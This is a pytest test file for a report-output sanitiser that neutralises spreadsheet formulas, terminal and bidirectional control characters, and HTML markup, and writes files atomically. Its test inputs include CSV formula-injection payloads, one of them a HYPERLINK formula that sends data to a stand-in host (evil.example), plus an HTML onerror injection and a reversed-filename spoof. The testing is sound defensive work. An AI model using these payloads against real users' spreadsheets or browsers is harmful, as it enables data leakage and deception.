"""jumbo.report.safe_output: what the report writes is data from the mesh (site labels from a
task's `reference`, host names, hop addresses, error texts); nothing of it may act on the
reader's spreadsheet, terminal or browser, and an output file is replaced whole."""

import os

import pytest

from jumbo.report import safe_output

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.mark.parametrize("cell,written", [
    ("plain", "plain"), ("CERN-PROD", "CERN-PROD"), ("", ""),
    ("=1+1", "'=1+1"), ("+cmd|'/c calc'!A0", "'+cmd|'/c calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("\tTAB", "'\\x09TAB"), ("\rCR", "'\\x0dCR"),
    ('=HYPERLINK("http://evil.example/?"&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("a=b", "a=b"), ("site\nforged", "site\\x0aforged"),
])
def test_a_csv_cell_never_starts_a_formula(cell, written):
    assert safe_output.csv_cell(cell) == written


def test_a_text_line_escapes_what_drives_a_terminal():
    assert safe_output.text_line("a\x1b[2Jb\nc") == "a\\x1b[2Jb\\x0ac"
    assert safe_output.text_line("\x00\x07\x7f\x85\x9f") == "\\x00\\x07\\x7f\\x85\\x9f"
    assert safe_output.text_line("über café ✓ 中") == "über café ✓ 中"  # printable stays


def test_bidirectional_controls_are_shown_not_applied():
    shown = safe_output.text_line("SITE-\u202eexe.gnp\u202c")
    assert shown == "SITE-\\u202eexe.gnp\\u202c"
    assert safe_output.text_line(BIDI) == "".join("\\u%04x" % ord(c) for c in BIDI)
    assert safe_output.text_line("\u2028\u2029") == "\\u2028\\u2029"


def test_html_text_escapes_markup_after_the_controls():
    assert safe_output.html_text('<img src=x onerror="a()">') == \
        "&lt;img src=x onerror=&quot;a()&quot;&gt;"
    assert safe_output.html_text("a & 'b'\u202e") == "a &amp; &#x27;b&#x27;\\u202e"


def test_a_message_from_outside_is_one_bounded_line():
    assert safe_output.message(ValueError("no\nstore")) == "no\\x0astore"
    long = safe_output.message("x" * 5000)
    assert long == "x" * 2000 + "..."
    assert safe_output.message("y" * 2000) == "y" * 2000


def test_write_atomic_replaces_the_file_whole(tmp_path):
    out = tmp_path / "report.txt"
    out.write_text("old\n")
    safe_output.write_atomic(str(out), "new ✓\n")
    assert out.read_text(encoding="utf-8") == "new ✓\n"
    assert os.listdir(str(tmp_path)) == ["report.txt"]
    umask = os.umask(0)
    os.umask(umask)
    assert os.stat(str(out)).st_mode & 0o777 == 0o666 & ~umask


def test_write_atomic_replaces_a_planted_link_not_its_target(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    out = tmp_path / "report.txt"
    out.symlink_to(victim)
    safe_output.write_atomic(str(out), "report\n")
    assert victim.read_text() == "precious\n"
    assert not out.is_symlink() and out.read_text() == "report\n"


def test_a_write_that_fails_leaves_the_old_file_and_no_temporary(tmp_path):
    out = tmp_path / "report.txt"
    out.write_text("old\n")
    with pytest.raises(UnicodeEncodeError):
        safe_output.write_atomic(str(out), "half\ud800")  # a lone surrogate cannot be UTF-8
    assert out.read_text() == "old\n"
    assert os.listdir(str(tmp_path)) == ["report.txt"]
    with pytest.raises(OSError):
        safe_output.write_atomic(str(tmp_path / "no-such-dir" / "r.txt"), "x")
